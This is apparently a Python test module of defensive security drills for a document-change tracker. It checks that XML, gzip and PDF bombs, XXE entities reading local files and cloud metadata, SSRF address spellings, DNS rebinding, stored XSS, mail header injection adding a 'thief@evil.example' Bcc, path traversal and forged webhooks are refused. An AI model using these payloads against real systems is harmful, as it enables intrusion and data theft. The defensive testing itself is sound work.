"""Attacks through a source, a file or the network, run against the tracker,
and their results. Attacks on the viewer are in `drill_intruders`."""

from __future__ import annotations

import json
import os
import re
import sqlite3
import time
import zipfile
import zlib
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from unittest import mock

import httpcore2
from fastapi.testclient import TestClient

from bench.drill_kit import AFTER, BEFORE, Drill, Outcome, change, clean, commands
from bench.drill_sources import document
from tests.e2e.world import World
from tests.unit.notifications_sinks import http_sink, mail_sink, parcel_of, refusing_port
from tests.unit.pdf_samples import pdf
from tests.unit.rendering_samples import affiliates_rule
from tests.unit.test_archive_backup import problems
from tests.unit.test_archive_exporter import ATTACKS, attacked
from tracker.archive.backup import backup
from tracker.archive.evidence import write_evidence
from tracker.archive.exporter import export_archive
from tracker.archive.importer import import_archive
from tracker.errors import AccessDenied, FetchError, ParseError, TrackerError
from tracker.http.client import Client
from tracker.http.rate_limit import PAGES
from tracker.http.ssrf_guard import GuardedBackend
from tracker.model import Fetched, HttpResponse, ResourceType
from tracker.notifications.channels import slack, teams
from tracker.parsing import read
from tracker.scheduler.schedule import load_checked
from tracker.web.app import create_app

FILE = '[[channel]]\nid = "file"\nurl = "tofile://{folder}/alerts.txt"\n[[route]]\nwhen = {{ level = "low" }}\nto = ["file"]\n'
LATER = datetime(2026, 11, 22, tzinfo=UTC)
SCRIPT = "<script>alert(1)</script>"
HOSTILE = (
    f"{SCRIPT} <img src=x onerror=alert(2)> <!channel> <@U123> @everyone [x](javascript:alert(3)) \x1b[31m"
)
WORDS = b"BT /F1 10 Tf 50 700 Td (One line of the rule that is long enough to be read as text.) Tj ET"
RECEIVER = Path(__file__).parents[1] / "docs" / "records.md"


# --- bombs --------------------------------------------------------------------------------------


def packed(world: World) -> Outcome:
    world.use("page").poll()
    world.standin.misbehave("/news/rule", "gzip-bomb", megabytes=70)
    world.later(hours=25)
    report = world.one()
    return Outcome(
        f"{report.state}: {report.reason}", not report.ok and len(world.changes()) == 1 and clean(world)
    )


def _read(role: ResourceType, kind: str, body: bytes) -> str:
    """Return the parser's result: the size of the text, or why it is refused."""
    answer = HttpResponse("https://x.example/a", 200, (("Content-Type", kind),), body, LATER)
    began = time.process_time()
    try:
        units = read(Fetched("a", role, answer)).units
    except ParseError as error:
        output = error.cause
    else:
        output = f"{sum(len(unit.text) for unit in units):,} characters"
    return output if time.process_time() - began < 5 else f"{output}, but slowly"


def xml(world: World) -> Outcome:
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    secret = world.folder / "secret.txt"
    secret.write_text("the-host-s-own-file", "utf-8")
    output = [
        _read(ResourceType.ECFR_PART, "application/xml", f'<!DOCTYPE d [<!ENTITY {entity}>{more}]><DIV5 TYPE="PART" N="744"><HEAD>Part 744</HEAD><P>{use}</P></DIV5>'.encode())
        for entity, more, use in (
            ('a0 "ha"', steps, "&a9;"),
            ('a0 "' + "x" * 100_000 + '"', "", "&a0;" * 10_000),
            (f'a0 SYSTEM "{secret.as_uri()}"', "", "&a0;"),
            ('a0 SYSTEM "http://169.254.169.254/latest/meta-data/"', "", "&a0;"),
        )
    ]  # fmt: skip
    deep = _read(ResourceType.ECFR_PART, "application/xml", b"<DIV5>" * 100_000)
    quiet = all("the-host" not in one and "slowly" not in one for one in (*output, deep))
    small = [
        int(one.split()[0].replace(",", "")) < 1_000 if one.endswith(" characters") else True
        for one in output
    ]
    return Outcome(f"entities are not resolved; nested 100,000 deep: {deep}", quiet and all(small))


def _pdf(content: bytes, picture: int) -> bytes:
    """Return one compressed page and a picture of 99,999 by 99,999 points whose bytes are `picture` zeros."""
    shown, pixels = zlib.compress(content, 9), zlib.compress(b"\0" * picture, 9)
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>"
        b"/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj\n"
        b"4 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
        b"5 0 obj<</Type/XObject/Subtype/Image/Width 99999/Height 99999/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R>>\n"
    ) % (len(shown), shown, len(pixels), pixels)


def pdfs(world: World) -> Outcome:
    sample = pdf(["One line of the rule that is long enough to be read as text."])
    pages = pdf(*[["x"]] * 3_001)
    huge = sample.replace(b"[0 0 612 792]", b"[0 0 9e9 9e9]", 1)
    loop = sample.replace(b"/Kids [", b"/Kids [2 0 R ", 1)
    output = {
        name: _read(ResourceType.PDF, "application/pdf", body)
        for name, body in {"3,001 pages": pages, "a page without end": huge, "a page tree in a circle": loop,
                           "a picture of 10 gigapixels": _pdf(WORDS + b" /I Do", 1 << 20), "a page that unpacks to 100 MB": _pdf(WORDS + b" " * 100_000_000, 1)}.items()
    }  # fmt: skip
    return Outcome("; ".join(f"{name}: {one}" for name, one in output.items()),
                   "over the bound" in output["3,001 pages"] and not any("slowly" in one for one in output.values()))  # fmt: skip


def nested(world: World) -> Outcome:
    page = _read(
        ResourceType.PAGE, "text/html", b"<html><body><main>" + b"<div>" * 20_000 + b"x</main></body></html>"
    )
    record = _read(ResourceType.FR_RECORD, "application/json", b'{"title":' + b"[" * 20_000)
    return Outcome(f"page: {page}; record: {record}", "slowly" not in page + record)


# --- where it may connect -----------------------------------------------------------------------


class _Network(httpcore2.NetworkBackend):
    """Notes where it is connected to, and connects nowhere."""

    def __init__(self) -> None:
        self.reached: list[str] = []

    def connect_tcp(self, host: str, *_: object, **__: object) -> httpcore2.NetworkStream:
        self.reached.append(host)
        raise httpcore2.ConnectError("not in a drill")


def rebinding(world: World) -> Outcome:
    """The name resolves to a public address first, and to private ones later or at the same time."""
    turns = iter(
        [["93.184.216.34", "127.0.0.1"], ["127.0.0.1"], ["::ffff:169.254.169.254"], ["64:ff9b::7f00:1"]]
    )
    network = _Network()
    guard = GuardedBackend(frozenset(), lambda: 5.0, lambda *_: next(turns), network)
    refused = 0
    for _ in range(4):
        try:
            guard.connect_tcp("rebinds.example", 80)
        except AccessDenied:
            refused += 1
        except httpcore2.ConnectError:
            pass
    return Outcome(f"{refused} of 3 private answers refused, connected to {network.reached}",
                   refused == 3 and network.reached == ["93.184.216.34"])  # fmt: skip


def private(world: World) -> Outcome:
    """Ways to write this machine and its neighbors that a resolver understands."""
    port = world.standin.port
    spelled = ["127.0.0.1", "2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0", "localhost", "[::1]", "[::ffff:127.0.0.1]",
               "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "169.254.169.254", "[fe80::1%25lo]", "[64:ff9b::7f00:1]"]  # fmt: skip
    world.standin.forget()
    refused = 0
    with Client(clock=lambda: LATER, sleep=lambda _: None) as client:
        for host in spelled:
            try:
                client.fetch(f"http://{host}:{port}/news/rule", rate=PAGES, deadline=client.monotonic() + 5)
            except FetchError:
                refused += 1
    asked = len(world.standin.asked("/news/rule"))
    return Outcome(
        f"{refused} of {len(spelled)} spellings refused, {asked} requests arrived",
        refused == len(spelled) and asked == 0,
    )


def redirected(world: World) -> Outcome:
    world.use("page").poll()
    output = []
    for behavior in ("redirect-metadata", "redirect-file"):
        world.standin.misbehave("/news/rule", behavior)
        world.later(hours=25)
        report = world.one()
        output.append(f"{report.state}: {report.reason}")
        world.standin.behave()
    return Outcome(
        "; ".join(output), all(one.startswith("blocked") for one in output) and len(world.changes()) == 1
    )


# --- words --------------------------------------------------------------------------------------


def script(world: World) -> Outcome:
    """A page whose title and text are mark-up once they are unescaped, shown in every form there is."""
    quoted = HOSTILE.replace("&", "&amp;").replace("<", "&lt;").replace("\x1b", "")
    page = f"<html><head><title>{quoted}</title></head><body><main><h1>{quoted}</h1><p>{{}}</p></main></body></html>"
    world.standin.put_page("/news/rule", page.format(BEFORE))
    world.use("page").poll()
    world.standin.put_page("/news/rule", page.format(f"{AFTER} {quoted}"))
    world.later(hours=25)
    world.poll()
    (found,) = world.changes(baseline=False)
    settings = load_checked(world.config)
    client = TestClient(
        create_app(settings, world.state, lambda: world.now), base_url="http://127.0.0.1:8000"
    )
    with client:
        paths = [
            "/",
            f"/changes/{found['id']}",
            f"/changes/{found['id']}/redline",
            "/feed.atom",
            "/changes",
            "/law",
            "/deliveries",
            "/sources",
        ]
        answers = {path: client.get(path) for path in paths}
    shown = {path: answer.text for path, answer in answers.items() if answer.status_code == 200}
    shown["commands"] = commands(
        world, ["diff", found["id"], "--format", "html"], ["digest", "--format", "html"]
    ).decode()
    live = [
        path
        for path, text in shown.items()
        if re.search(r"<script>alert|<img src=x|href=.?javascript:", text, re.I)
    ]
    there = sum("alert(1)" in text for text in shown.values())
    alerted = "".join(world.alerts)
    return Outcome(f"{there} pages show it as text, {len(live)} as mark-up; no control characters in the alert",
                   there >= 4 and not live and "\x1b" not in alerted)  # fmt: skip


def _text_of(mail: EmailMessage) -> str:
    parts = [part for part in mail.walk() if part.get_content_maintype() == "text"]
    return " ".join(str(part.get_content()) for part in parts)


def mentions(world: World) -> Outcome:
    """A title with line breaks, headers and mentions, on its way to a mail, to Slack and to Teams."""
    title = "Additions to the Entity List\r\nBcc: thief@evil.example\r\n\r\n<!channel> <@U123> @everyone"
    with mail_sink() as mail:
        extra = (
            f'[[channel]]\nid = "mail"\nurl = "mailto://127.0.0.1:{mail.port}/?from=tracker@example.co.jp&to=legal@example.co.jp"\n'
            '[[route]]\nwhen = { level = "low" }\nto = ["mail"]\n'
        )
        world.use("fr-bis", extra=extra).poll()
        world.later(days=1)
        document(world, "2026-12001", title)
        world.poll()
        (sent,) = [one for one in mail.mails if "Bcc: thief" in _text_of(one)]
    names = [name.lower() for name in sent]
    held = names.count("subject") == 1 and "bcc" not in names and "\n" not in str(sent["subject"])
    parcel = parcel_of(replace(affiliates_rule(), title=title))
    output = json.dumps([slack.payloads(parcel.message), teams.payloads(parcel.message)])
    calling = re.findall(r"<!channel>|<@U123>|(?<!\u2060)@everyone", output)
    return Outcome(f"1 mail to {', '.join(mail.recipients[0])} with one subject; {len(calling)} mentions in Slack and Teams",
                   held and {*map(tuple, mail.recipients)} == {("legal@example.co.jp",)} and not calling)  # fmt: skip


# --- what is handed over ------------------------------------------------------------------------


def archives(world: World) -> Outcome:
    world.use("page", "fr-bis").poll()
    file = export_archive(world.state, world.folder / "all.zip").path
    there = world.folder / "a" / "there"
    refused = 0
    for attack in ATTACKS:
        try:
            import_archive(attacked(file, attack, world.folder / "hostile.zip"), there)
        except TrackerError as error:
            refused += "\n" not in error.line() and not list(there.iterdir())
    out = list(world.folder.rglob("evil*"))
    return Outcome(f"{refused} of {len(ATTACKS)} refused in one line each, nothing stored, {len(out)} files written elsewhere",
                   refused == len(ATTACKS) and not out)  # fmt: skip


def backups(world: World) -> Outcome:
    """A row that was altered in a backup with other tools, and a backup that is no database."""
    world.use("page").poll()
    kept = backup(world.state, world.folder / "kept").path
    with closing(sqlite3.connect(kept)) as connection:
        connection.execute("UPDATE change SET record = replace(record, 'high', 'none'), level = 0")
        connection.execute("UPDATE snapshot SET fetched_at = '2020-01-01T00:00:00.000000Z' WHERE id = 1")
        connection.commit()
    found = problems(kept.parent)
    return Outcome(f"`tracker verify` of the restored state names {len(found)} rows", len(found) >= 2)


def evidence(world: World) -> Outcome:
    """A page whose address climbs out of the folder that its evidence is written to."""
    path = "/news/..%2f..%2f..%2fevil/../rule"
    world.standin.put_page(path, f"<html><body><main><h1>Rule</h1><p>{AFTER}</p></main></body></html>")
    source = (
        f'[[source]]\nid = "climbs"\nkind = "page"\nurl = "{world.standin.url}{path}"\ncontent = "main"\n'
    )
    world.use(extra=FILE.format(folder=world.folder) + source).poll()
    (found,) = world.changes()
    folder = world.folder / "proof"
    write_evidence(world.state, found["id"], folder, now=world.now, timezone="Asia/Tokyo")
    names = [str(file.relative_to(folder)) for file in folder.rglob("*") if file.is_file()]
    wanted = re.compile(r"[a-zA-Z0-9.]+|(before|after)/\d-[a-z-]+\.[a-z]+")
    strange = [name for name in names if not wanted.fullmatch(name)] + list(world.folder.rglob("evil*"))
    return Outcome(f"{len(names)} files, all under names of our own", bool(names) and not strange)


def webhook(world: World) -> Outcome:
    """The receiver of docs/records.md, with a real alert, then with what a forger or a wiretapper would send."""
    receiver: dict[str, Any] = {}
    blocks = re.findall(r"```python\n(.*?)```", RECEIVER.read_text("utf-8"), re.S)
    (code,) = (block for block in blocks if "def genuine" in block)
    exec(code, receiver)  # the documentation's own words
    with http_sink() as hook:
        (world.folder / "secret").write_text("shared-secret\n", "utf-8")
        extra = (
            f'[[channel]]\nid = "hook"\nurl = "json://127.0.0.1:{hook.port}/hook"\nsecret = "file:{world.folder}/secret"\n'
            '[[route]]\nwhen = { level = "low" }\nto = ["hook"]\n'
        )
        world.use("page", extra=extra).poll()
        change(world)
        world.later(hours=25)
        world.poll()
    body, header = hook.raw[0], hook.headers[0]["X-Tracker-Signature"]
    sent = int(header.partition(",")[0][2:])
    genuine = receiver["genuine"]
    accepted = genuine(b"shared-secret", header, body, sent + 2)
    later = header.replace(f"t={sent}", f"t={sent + 3600}")
    tries = [
        (b"shared-secret", header, body.replace(b"medium", b"none").replace(b"high", b"none"), sent + 2),
        (b"shared-secret", header, body + b" ", sent + 2),
        (b"shared-secret", header, body, sent + 3600),
        (b"shared-secret", later, body, sent + 3600),
        (b"shared-secret", header, body, sent - 3600),
        (b"", header, body, sent + 2),
        (b"other-secret", header, body, sent + 2),
        *((b"shared-secret", wrong, body, sent + 2) for wrong in ("", "t=,v1=", f"t={sent},v1=", "v1=00", f"t={sent},v1=é", "t=x,v1=y,z")),
    ]  # fmt: skip
    refused = sum(not genuine(*one) for one in tries)
    return Outcome(f"the real one is taken, {refused} of {len(tries)} forged or replayed ones refused",
                   accepted and refused == len(tries))  # fmt: skip


# --- secrets ------------------------------------------------------------------------------------


def secrets(world: World) -> Outcome:
    """The address, user and password of channels that fail in every way, looked for in all that is written."""
    planted = "pl4nted-s3cret-w0rd"
    environment = {
        "HOOK": f"json://user-{planted}:{planted}@127.0.0.1:{refusing_port()}/{planted}?token={planted}"
    }
    extra = '[[channel]]\nid = "hook"\nurl = "env:HOOK"\n[[route]]\nwhen = { level = "low" }\nto = ["hook"]\n'
    world.use("page", extra=extra)
    with mock.patch.dict(os.environ, environment):
        world.poll()
        change(world)
        world.later(hours=25)
        world.poll()
        (found,) = world.changes(baseline=False)
        output = [commands(world, ["poll"], ["status", "--json"], ["check"], ["show", found["id"], "--json"])]
    backup(world.state, world.folder / "kept")
    export_archive(world.state, world.folder / "all.zip")
    write_evidence(world.state, found["id"], world.folder / "proof", now=world.now, timezone="Asia/Tokyo")
    with zipfile.ZipFile(world.folder / "all.zip") as archive:
        output += [archive.read(name) for name in archive.namelist()]
    files = [path for path in world.folder.rglob("*") if path.is_file()]
    output += [path.read_bytes() for path in files]
    leaks = sum(planted.encode() in one for one in output)
    tried = b'"attempts"' in output[0] and b'"tries": []' not in output[0]
    return Outcome(
        f"in 0 of {len(output)} outputs, files and members" if not leaks else f"in {leaks} places",
        not leaks and tried,
    )


DRILLS = [
    Drill("bomb: gzip, 70 MB in 70 KB", "refused, kept out of the store", packed),
    Drill("bomb: XML entities by the billion, entities that read files or addresses, nesting", "not resolved, refused", xml),
    Drill("bomb: PDF with too many pages, an endless page, a page tree in a circle, a picture of 10 gigapixels, a page that unpacks to 100 MB",
          "refused, or read without it", pdfs),
    Drill("bomb: HTML and JSON nested 20,000 deep", "refused, or read as far as it goes", nested),
    Drill("DNS rebinding: a name that turns private", "refused where it would connect", rebinding),
    Drill("private, mapped and oddly spelled addresses", "refused", private),
    Drill("redirect to the cloud's credentials and to a file", "refused", redirected),
    Drill("stored script in title and text", "shown as text", script),
    Drill("headers and mentions in a title", "one line of text, calling nobody", mentions),
    Drill("hostile archive: traversal, links, doubles, bombs, edited rows and seals", "refused, nothing stored", archives),
    Drill("a backup that was edited", "found by `tracker verify`", backups),
    Drill("path traversal in evidence", "names of our own", evidence),
    Drill("forged and replayed webhook", "refused by a receiver as documented", webhook),
    Drill("secrets of a channel that fails", "nowhere", secrets),
]  # fmt: skip
